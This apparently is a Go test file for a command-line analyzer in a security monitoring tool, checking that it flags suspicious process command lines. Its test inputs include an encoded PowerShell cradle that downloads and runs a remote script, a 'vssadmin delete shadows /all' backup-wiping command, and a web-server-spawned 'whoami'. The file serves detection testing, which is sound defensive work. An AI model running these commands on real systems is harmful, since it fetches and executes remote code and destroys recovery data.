package scriptanalyzer

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/spotter-soc/spotter/internal/cmdline"
	"github.com/spotter-soc/spotter/internal/skill"
)

func encoded(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 0, 2*len(u))
	for _, x := range u {
		b = append(b, byte(x), byte(x>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func newSkill(t *testing.T, settings map[string]string) (skill.Skill, *bytes.Buffer) {
	t.Helper()
	var logs bytes.Buffer
	info := New().Info()
	resolved := map[string]string{}
	for _, s := range info.Settings {
		resolved[s.Name] = s.Default
	}
	for k, v := range settings {
		resolved[k] = v
	}
	skills, err := New().New(skill.Env{Settings: resolved, Log: slog.New(slog.NewTextHandler(&logs, nil))})
	if err != nil {
		t.Fatal(err)
	}
	if len(skills) != 1 {
		t.Fatalf("%d skills", len(skills))
	}
	return skills[0], &logs
}

func run(t *testing.T, s skill.Skill, raw map[string]any) *skill.Result {
	t.Helper()
	in, err := s.Spec().Validate(raw)
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestRegistration(t *testing.T) {
	r := skill.NewRegistry()
	if err := r.Register(New()); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{ID, "ScriptAnalyzer", "scriptanalyzer"} {
		if s, err := r.Lookup(name); err != nil || s.ID != ID {
			t.Errorf("Lookup(%q) = %v, %v", name, s.ID, err)
		}
	}
	s := spec
	if s.IndicatorInput != "cmdlines" || s.Section != "processes" || len(s.Enriches) != 1 || s.Enriches[0] != "process" || s.CacheTTL <= 0 {
		t.Errorf("spec: %+v", s)
	}
	too := make([]any, MaxLines+1)
	for i := range too {
		too[i] = "whoami"
	}
	if _, err := s.Validate(map[string]any{"cmdlines": too}); err == nil {
		t.Errorf("%d lines accepted", len(too))
	}
	if _, err := s.Validate(map[string]any{}); err == nil {
		t.Error("missing cmdlines accepted")
	}
}

func TestAnalyzeCommandLines(t *testing.T) {
	s, _ := newSkill(t, nil)
	lines := []any{
		"powershell -nop -w hidden -enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://updates.example.com/a.ps1')"),
		"notepad.exe",
		"notepad.exe -param",
		"certutil -hashfile C:\\Temp\\setup.exe SHA256",
	}
	res := run(t, s, map[string]any{"cmdlines": lines})
	data, ok := res.Data.([]cmdline.Analysis)
	if !ok || len(data) != len(lines) {
		t.Fatalf("data %T with %d entries", res.Data, len(data))
	}
	if data[0].Verdict != skill.Malicious || len(data[0].Decoded) != 1 || len(data[0].Indicators.URLs) != 1 {
		t.Errorf("encoded cradle: %+v", data[0])
	}
	if !data[1].Skipped || data[2].Skipped {
		t.Errorf("standard filter: notepad.exe skipped %v, notepad.exe -param skipped %v", data[1].Skipped, data[2].Skipped)
	}
	if data[3].Verdict != skill.Benign {
		t.Errorf("certutil -hashfile: %s", data[3].Verdict)
	}
	if len(res.Findings) != len(lines) {
		t.Fatalf("%d findings", len(res.Findings))
	}
	f := res.Findings[0]
	if f.Indicator != lines[0] || f.Type != "process" || f.Skill != ID || f.Level != skill.Malicious || f.Section != "processes" ||
		!strings.Contains(f.Summary, "PowerShell") || len(f.Reasons) < 2 || !strings.Contains(strings.Join(f.Reasons, "\n"), "T1059.001") {
		t.Errorf("finding: %+v", f)
	}
	if !strings.Contains(res.Summary, "1 malicious") || !strings.Contains(res.Summary, "1 skipped") {
		t.Errorf("summary: %s", res.Summary)
	}
	b, err := json.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{`"cmdline"`, `"verdict"`, `"score"`, `"skipped"`, `"rules"`, `"decoded"`, `"indicators"`} {
		if !bytes.Contains(b, []byte(k)) {
			t.Errorf("JSON lacks %s", k)
		}
	}
}

func TestSharedContextInputs(t *testing.T) {
	s, _ := newSkill(t, nil)
	res := run(t, s, map[string]any{"cmdlines": []any{"cmd.exe /c whoami"}, "parent": `C:\Windows\System32\inetsrv\w3wp.exe`, "os": "Windows", "user": `IIS APPPOOL\web`})
	an := res.Data.([]cmdline.Analysis)[0]
	if an.Verdict != skill.Malicious || an.OS != cmdline.OSWindows {
		t.Errorf("web server child: %s %q %+v", an.Verdict, an.OS, an.Rules)
	}
}

func TestSettings(t *testing.T) {
	dir := t.TempDir()
	rule := "title: Corp Forbidden Tool\nid: 5b0c6a8e-1f7e-4a53-9c1e-0f3a2b7d9e11\nlevel: high\ntags:\n    - attack.t1219\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        CommandLine|contains: 'forbiddentool'\n    condition: sel\n"
	if err := os.WriteFile(filepath.Join(dir, "corp.yml"), []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "broken.yml"), []byte("title: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s, logs := newSkill(t, map[string]string{"rules_dirs": " " + dir + " ,", "skip_commands": "corpagent.exe --sync, backup.sh", "include_builtin": "false"})
	if !strings.Contains(logs.String(), "broken.yml") {
		t.Errorf("the broken file is not logged: %s", logs)
	}
	res := run(t, s, map[string]any{"cmdlines": []any{"forbiddentool.exe --run", "corpagent.exe --sync", "vssadmin delete shadows /all"}})
	data := res.Data.([]cmdline.Analysis)
	if data[0].Verdict != skill.Malicious || data[0].Rules[0].Title != "Corp Forbidden Tool" {
		t.Errorf("user rule: %+v", data[0])
	}
	if !data[1].Skipped {
		t.Error("skip_commands not applied")
	}
	if data[2].Verdict != skill.Unknown {
		t.Errorf("built-in pack excluded, yet %s", data[2].Verdict)
	}
	for _, bad := range []map[string]string{
		{"include_builtin": "maybe"},
		{"rules_dirs": filepath.Join(dir, "missing")},
		{"include_builtin": "false"},
	} {
		info := New().Info()
		settings := map[string]string{}
		for _, st := range info.Settings {
			settings[st.Name] = st.Default
		}
		for k, v := range bad {
			settings[k] = v
		}
		if _, err := New().New(skill.Env{Settings: settings}); err == nil {
			t.Errorf("settings %v accepted", bad)
		}
	}
}

func TestCancelled(t *testing.T) {
	s, _ := newSkill(t, nil)
	in, _ := s.Spec().Validate(map[string]any{"cmdlines": []any{"whoami"}})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := s.Run(ctx, in); err == nil {
		t.Error("a cancelled context should stop the run")
	}
}
